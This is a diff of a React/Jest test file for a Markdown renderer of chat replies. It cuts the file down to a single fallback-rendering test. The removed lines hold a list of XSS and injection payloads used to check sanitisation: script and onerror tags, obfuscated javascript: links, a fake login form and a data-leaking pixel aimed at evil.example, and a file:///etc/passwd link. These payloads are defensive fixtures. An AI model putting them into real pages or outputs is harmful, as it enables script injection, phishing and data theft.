@@ -1,178 +1,21 @@
-import { afterEach, describe, expect, it, jest } from '@jest/globals';
+import { afterEach, expect, it, jest } from '@jest/globals';
+import { BlockGrower } from '@polylogue/markdown/lexing';
 import { render } from '@testing-library/react';
-import { BlockGrower } from './grow-blocks.js';
-import { hostileTexts } from './hostile-texts.fixture.js';
 import { Markdown } from './markdown.js';
 
-const shown = (text: string, live = false) => render(<Markdown text={text} live={live} />).container;
+afterEach(() => void jest.restoreAllMocks());
 
-const attacks = [
-  '<script>alert(1)</script>',
-  '<img src=x onerror=alert(1)>',
-  '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>',
-  '<iframe src="javascript:alert(1)"></iframe>',
-  '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
-  '<style>body{display:none}</style>',
-  '<base href="https://evil.example/">',
-  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-  '<object data="data:text/html,<script>alert(1)</script>"></object>',
-  '<a href="javascript:alert(1)">x</a>',
-  '<div style="position:fixed;inset:0">overlay</div>',
-  '<math><mtext></p><img src=x onerror=alert(1)>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  '[x](javascript:alert(1))',
-  '[x](JaVaScRiPt:alert(1))',
-  '[x](java\tscript:alert(1))',
-  '[x](&#106;avascript:alert(1))',
-  '[x](&#x6A;avascript&colon;alert(1))',
-  '[x](<java\nscript:alert(1)>)',
-  '[x](vbscript:msgbox(1))',
-  '[x](data:text/html;base64,PHNjcmlwdD4=)',
-  '[x](file:///etc/passwd)',
-  '[x](blob:https://example.com/1)',
-  '[x](//evil.example)',
-  '[x](/api/logout)',
-  '[x](\\\\evil.example)',
-  '[paypal.com](https://paypal.com@evil.example/)',
-  '[x][1]\n\n[1]: javascript:alert(1)',
-  '<javascript:alert(1)>',
-  '![x](javascript:alert(1))',
-  '![x](https://evil.example/pixel.gif?secret)',
-  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
-  '![x][1]\n\n[1]: https://evil.example/p.gif "t"',
-  '```html"onmouseover="alert(1)\n<script>alert(1)</script>\n```',
-  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
-  '- <img src=x onerror=alert(1)>',
-  '> <iframe srcdoc="<script>alert(1)</script>">',
-  '**<b onclick=alert(1)>bold</b>**',
-  '`<script>alert(1)</script>`',
-  '&lt;script&gt;alert(1)&lt;/script&gt;',
-  '[x](https://example.com "onmouseover=alert(1)")',
-  '<!--\n<script>alert(1)</script>\n-->',
-  '<![CDATA[<script>alert(1)</script>]]>',
-  '__proto__ [__proto__] [constructor]\n\n[__proto__]: https://example.com',
-];
-
-const allowed = new Set(
-  'A BLOCKQUOTE BR BUTTON CODE COL COLGROUP DEL DIV EM FIGURE H3 HR LI OL P PATH PRE RECT CIRCLE SPAN STRONG SVG TABLE TBODY TD TH THEAD TR UL'.split(
-    ' ',
-  ),
-);
-
-describe('a hostile reply', () => {
-  it.each(attacks.flatMap((text) => [[text, false] as const, [text, true] as const]))(
-    '%j is harmless',
-    (text, live) => {
-      for (let end = live ? 1 : text.length; end <= text.length; end++) {
-        const container = shown(text.slice(0, end), live);
-        for (const element of container.querySelectorAll('*')) {
-          expect(allowed).toContain(element.tagName.toUpperCase());
-          for (const { name, value } of element.attributes) {
-            expect(name).not.toMatch(/^(on|src|srcdoc|action|formaction|xlink)/);
-            if (name === 'style') expect(value).toMatch(/^--least: \d+ch; --most: \d+ch;$/);
-            if (name === 'href') expect(value).toMatch(/^(https?|mailto):/);
-          }
-          if (element.tagName === 'A') {
-            expect(element.getAttribute('target')).toBe('_blank');
-            expect(element.getAttribute('rel')).toContain('noopener');
-          }
-        }
-      }
-    },
+it('shows a reply that cannot be drawn as its text, and what stands around it as ever', () => {
+  jest.spyOn(console, 'error').mockImplementation(() => undefined);
+  jest.spyOn(BlockGrower.prototype, 'grow').mockImplementation(() => {
+    throw new RangeError('Maximum call stack size exceeded');
+  });
+  const { container } = render(
+    <>
+      <h2>Panel</h2>
+      <Markdown text={'**All**\nof it'} />
+    </>,
   );
-
-  it('shows raw HTML as the text it is', () => {
-    expect(shown('Use <b>bold</b> & <script>x</script>').textContent).toBe('Use <b>bold</b> & <script>x</script>');
-  });
-
-  it('turns a remote picture into a link and loads nothing', () => {
-    const container = shown('![A chart](https://example.com/chart.png)');
-    expect(container.querySelector('img')).toBeNull();
-    expect(container.querySelector('a')?.href).toBe('https://example.com/chart.png');
-    expect(container.textContent).toContain('A chart');
-  });
-
-  it('keeps the words of a link that may not be followed', () => {
-    const container = shown('[click me](javascript:alert(1))');
-    expect(container.querySelector('a')).toBeNull();
-    expect(container.textContent).toBe('click me');
-  });
-});
-
-describe('an honest reply', () => {
-  it('shows lists, tables, code and emphasis', () => {
-    const container = shown(
-      '## Title\n\nSome **bold** &amp; `code`.\n\n1. one\n2. two\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n```ts\nconst x = 1;\n```\n\n- [x] done',
-    );
-    expect(container.querySelector('h3')?.textContent).toBe('Title');
-    expect(container.querySelector('p')?.textContent).toBe('Some bold & code.');
-    expect(container.querySelectorAll('ol li')).toHaveLength(2);
-    expect(container.querySelector('td[data-align=right]')?.textContent).toBe('2');
-    expect(container.querySelector('pre')?.textContent).toBe('const x = 1;');
-    expect(container.querySelector('[data-kind=k]')?.textContent).toBe('const');
-    expect(container.querySelector('[role=img]')?.getAttribute('aria-label')).toBe('Done');
-  });
-
-  it('shows formulas to the letter, and takes no price for one', () => {
-    const container = shown(
-      'For $5 or US$6, $a_i * b_i$, \\(x \\, y\\) and `$z$`:\n\n\\[\n\\frac{1}{2}\n\\]\n\n$$ n! $$',
-    );
-    const formulas = [...container.querySelectorAll<HTMLElement>('code[data-maths]')];
-    expect(formulas.map(({ textContent, dataset }) => [textContent, dataset['maths']])).toEqual([
-      ['a_i * b_i', ''],
-      ['x \\, y', ''],
-      ['\\frac{1}{2}', 'displayed'],
-      ['n!', 'displayed'],
-    ]);
-    expect(container.textContent).toContain('For $5 or US$6, ');
-  });
-
-  it('lets every block begin on the side of its script, its own paragraphs with it', () => {
-    const container = shown('שלום\n\n1. אחד\n\n   עוד\n\n> ציטוט\n\n## כותרת\n\n| א |\n|---|\n| ב |');
-    const sided = [...container.querySelectorAll('[dir=rtl]')].map(({ localName }) => localName);
-    expect(sided).toEqual(['p', 'ol', 'blockquote', 'h3', 'table']);
-    expect(shown('**Word** שלום\n\n1. one\n\n> 1 two').querySelector('[dir]')).toBeNull();
-  });
-
-  it('leaves finished blocks in place while the text grows', () => {
-    const { container, rerender } = render(<Markdown text={'One.\n\nTwo **bo'} live />);
-    const first = container.querySelector('p');
-    rerender(<Markdown text={'One.\n\nTwo **bold** and'} live />);
-    expect(container.querySelector('p')).toBe(first);
-    expect(container.querySelectorAll('p')[1]?.innerHTML).toBe('Two <strong>bold</strong> and');
-  });
-});
-
-describe('a reply that cannot be drawn', () => {
-  afterEach(() => void jest.restoreAllMocks());
-
-  it('is shown as its text, and what stands around it as ever', () => {
-    jest.spyOn(console, 'error').mockImplementation(() => undefined);
-    jest.spyOn(BlockGrower.prototype, 'grow').mockImplementation(() => {
-      throw new RangeError('Maximum call stack size exceeded');
-    });
-    const { container } = render(
-      <>
-        <h2>Panel</h2>
-        <Markdown text={'**All**\nof it'} />
-      </>,
-    );
-    expect(container.querySelector('h2')?.textContent).toBe('Panel');
-    expect(container.querySelector('p')?.textContent).toBe('**All**\nof it');
-  });
-
-  it.each([
-    'quote marks',
-    'list marks',
-    'links never closed',
-    'soft within soft',
-    'nested brackets',
-    'quotes and lists',
-  ])('is not one of %s', (name) => {
-    const logged = jest.spyOn(console, 'error');
-    const text = hostileTexts(5_000)[name] ?? '';
-    expect(shown(text).querySelector('[data-open], div')).not.toBeNull();
-    expect(shown(`${text}\n\nAnd **after**.`).textContent).toContain('And after.');
-    expect(logged).not.toHaveBeenCalled();
-  });
+  expect(container.querySelector('h2')?.textContent).toBe('Panel');
+  expect(container.querySelector('p')?.textContent).toBe('**All**\nof it');
 });
